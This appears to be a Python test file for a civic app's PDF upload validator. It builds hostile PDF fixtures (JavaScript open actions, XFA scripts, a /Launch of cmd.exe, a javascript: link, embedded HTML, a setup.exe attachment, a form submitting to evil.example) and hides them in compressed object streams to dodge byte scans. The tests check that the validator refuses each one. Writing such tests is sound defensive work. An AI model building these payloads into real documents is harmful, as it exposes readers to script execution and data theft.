"""Hostile PDFs: scripts, automatic actions (also inherited through /Parent and hidden in compressed object
streams), XFA forms, embedded files, dangerous links; each refused with a clear message, a plain PDF kept.

Each file is built here byte by byte, as an attacker would: in plain objects, and again with every
dictionary packed into a compressed object stream, where no scan of the raw bytes can see it."""

from __future__ import annotations

import html
import zlib

import pytest

from civic.db import unit_of_work
from civic.errors import Invalid
from civic.media import processing, rules
from civic.media.models import Attachment
from civic.media.schemas import Upload
from tests.builders import count, media_files

Objects = dict[int, "bytes | tuple[bytes, bytes]"]  # a dictionary, or a stream: (dictionary, data)

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> %s >>"


def pdf(objects: Objects, *, packed: bool) -> bytes:
    """A PDF 1.7 of these objects (1 is the catalog). `packed`: every dictionary goes into one compressed
    object stream and the cross-reference is a stream too (as Acrobat and Word write PDFs today)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, tuple[int, int, int]] = {}  # number -> (type, field 2, field 3)

    def put(num: int, body: bytes, data: bytes | None = None) -> None:
        offsets[num] = (1, len(out), 0)
        out.extend(b"%d 0 obj\n" % num)
        if data is None:
            out.extend(body)
        else:
            out.extend(body[:-2] + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream")
        out.extend(b"\nendobj\n")

    plain = {n: o for n, o in objects.items() if isinstance(o, bytes)}
    for num, obj in objects.items():
        if isinstance(obj, tuple):
            put(num, *obj)
        elif not packed:
            put(num, obj)
    top = max(objects) + 1
    if not packed:
        xref = len(out)
        out.extend(b"xref\n0 %d\n0000000000 65535 f \n" % top)
        for num in range(1, top):
            out.extend(b"%010d 00000 n \n" % offsets[num][1] if num in offsets else b"0000000000 65535 f \n")
        out.extend(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (top, xref))
        return bytes(out)
    stm, xref_num = top, top + 1
    head, body = bytearray(), bytearray()
    for index, (num, obj) in enumerate(plain.items()):
        head.extend(b"%d %d " % (num, len(body)))
        body.extend(obj + b"\n")
        offsets[num] = (2, stm, index)
    packed_data = zlib.compress(bytes(head) + bytes(body))
    put(stm, b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode >>" % (len(plain), len(head)),
        packed_data)
    offsets[xref_num] = (1, len(out), 0)
    rows = b"".join(bytes([t]) + f2.to_bytes(4, "big") + f3.to_bytes(2, "big")
                    for t, f2, f3 in (offsets.get(n, (0, 0, 65535)) for n in range(xref_num + 1)))
    xref = len(out)
    put(xref_num, b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R >>" % (xref_num + 1), rows)
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref)
    return bytes(out)


def document(catalog: bytes = b"", page: bytes = b"", extra: Objects | None = None, *, parent: int = 2,
             packed: bool = False) -> bytes:
    """One blank page; `catalog` and `page` are added to those dictionaries, `extra` are more objects."""
    objects: Objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE.replace(b"/Parent 2 0 R", b"/Parent %d 0 R" % parent) % page,
        4: (b"<< >>", b"BT ET"),
    }
    objects.update(extra or {})
    return pdf(objects, packed=packed)


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HOSTILE = {
    # An XFA form: XML with its own scripts, run by some viewers instead of the pages.
    "an XFA form": (lambda packed: document(b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra={
        5: (b"<< >>", b"<xdp:xdp><template><script>app.alert(1)</script></template></xdp:xdp>")},
        packed=packed), rules.PDF_FORM),
    # A page whose /Parent is a page-tree node of its own, not the catalog's, with an action on opening
    # that the page inherits.
    "an action inherited through /Parent": (lambda packed: document(parent=5, extra={
        5: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O 6 0 R >> >>", 6: JS}, packed=packed),
        rules.PDF_ACTIVE),
    "an action when a page opens": (lambda packed: document(page=b"/AA << /O 5 0 R >>", extra={5: JS},
                                                            packed=packed), rules.PDF_ACTIVE),
    "a script on opening": (lambda packed: document(b"/OpenAction 5 0 R", extra={5: JS}, packed=packed),
                            rules.PDF_ACTIVE),
    "an embedded HTML page": (lambda packed: document(
        b"/Names << /EmbeddedFiles << /Names [(a.html) 5 0 R] >> >>", extra={
            5: b"<< /Type /Filespec /F (a.html) /EF << /F 6 0 R >> >>",
            6: (b"<< /Type /EmbeddedFile /Subtype /text#2Fhtml >>", b"<script>alert(1)</script>")},
        packed=packed), rules.PDF_EMBEDDED),
    "a file attachment annotation": (lambda packed: document(page=b"/Annots [5 0 R]", extra={
        5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
        6: b"<< /Type /Filespec /F (setup.exe) >>"}, packed=packed), rules.PDF_EMBEDDED),
    "a link that launches a program": (lambda packed: _link(b"<< /S /Launch /F (cmd.exe) >>", packed),
                                       rules.PDF_ACTIVE),
    "a javascript: link": (lambda packed: _link(b"<< /S /URI /URI ( JavaScript:alert\\(1\\)) >>", packed),
                           rules.PDF_ACTIVE),
    "a form that sends itself": (lambda packed: _link(
        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", packed), rules.PDF_ACTIVE),
    "a form that imports data": (lambda packed: _link(b"<< /S /ImportData /F (data.fdf) >>", packed),
                                 rules.PDF_ACTIVE),
    "rich media (Flash)": (lambda packed: document(page=b"/Annots [5 0 R]", extra={
        5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 20 20] /RichMediaContent << >> >>"},
        packed=packed), rules.PDF_ACTIVE),
}


def _link(action: bytes, packed: bool) -> bytes:
    return document(page=b"/Annots [5 0 R]", extra={
        5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A 6 0 R >>", 6: action}, packed=packed)


def check(data: bytes, name: str = "bien-ban.pdf"):
    return processing.prepare(Upload(name, "application/pdf", data))


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "in an object stream"])
def test_a_plain_pdf_with_an_ordinary_link_passes(packed):
    link = _link(b"<< /S /URI /URI (https://xa.example.vn/thong-bao) >>", packed)
    for data in (document(packed=packed), link, document(b"/OpenAction [3 0 R /Fit]", packed=packed)):
        prepared = check(data)
        assert (prepared.kind, prepared.pages, prepared.display.data) == ("document", 1, data)


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "in an object stream"])
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_pdfs_are_refused_with_a_clear_message(case, packed):
    build, message = HOSTILE[case]
    data = build(packed)
    with pytest.raises(Invalid) as exc:
        check(data)
    assert exc.value.message == message and exc.value.params == {"name": "bien-ban.pdf"}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_the_object_walk_finds_them_without_the_byte_scan(case, monkeypatch):
    """The byte scan is a first net only: the walk over the parsed objects finds each one by itself."""
    monkeypatch.setattr(processing, "_RAW", {})
    build, message = HOSTILE[case]
    for packed in (False, True):
        with pytest.raises(Invalid) as exc:
            check(build(packed))
        assert exc.value.message == message, packed


def test_the_walk_is_bounded_in_objects_and_time(monkeypatch):
    many = document(page=b"/Annots [%s]" % b" ".join(b"%d 0 R" % n for n in range(5, 505)), extra={
        n: b"<< /Type /Annot /Subtype /Square /Rect [0 0 1 1] >>" for n in range(5, 505)}, packed=True)
    assert check(many).pages == 1
    monkeypatch.setattr(rules, "MAX_PDF_OBJECTS", 100)
    with pytest.raises(Invalid) as exc:
        check(many)
    assert exc.value.message == rules.PDF_COMPLEX
    monkeypatch.setattr(rules, "MAX_PDF_OBJECTS", 200_000)
    monkeypatch.setattr(rules, "MAX_PDF_SECONDS", 0.0)
    with pytest.raises(Invalid) as exc:
        check(many)
    assert exc.value.message == rules.PDF_COMPLEX


def test_a_hostile_pdf_sent_with_a_form_is_refused_in_vietnamese_and_nothing_is_kept(client):
    """Through the pages: the village head records a delivered pledge with an XFA form as its receipt."""
    from civic import clock
    from civic.implementation.models import Delivery
    from tests.implementation.test_pages import _desk_with_a_pledge, csrf_token

    code, pledge_id = _desk_with_a_pledge(client)
    before = media_files()
    build, _message = HOSTILE["an XFA form"]
    r = client.post(f"/do/{code}/pledge/{pledge_id}/deliver", follow_redirects=False, data={
        "csrf_token": csrf_token(client, f"/do/{code}"), "amount": "500.000", "evidence": "Phiếu thu số 2",
        "delivered_on": clock.today_local().isoformat()},
        files=[("evidence_files", ("Phiếu thu.pdf", build(True), "application/pdf"))])
    assert r.status_code == 422
    assert "“Phiếu thu.pdf” là biểu mẫu tương tác (XFA)" in html.unescape(r.text)
    with unit_of_work() as db:
        assert count(db, Delivery) == 0 and count(db, Attachment) == 0
    assert media_files() == before
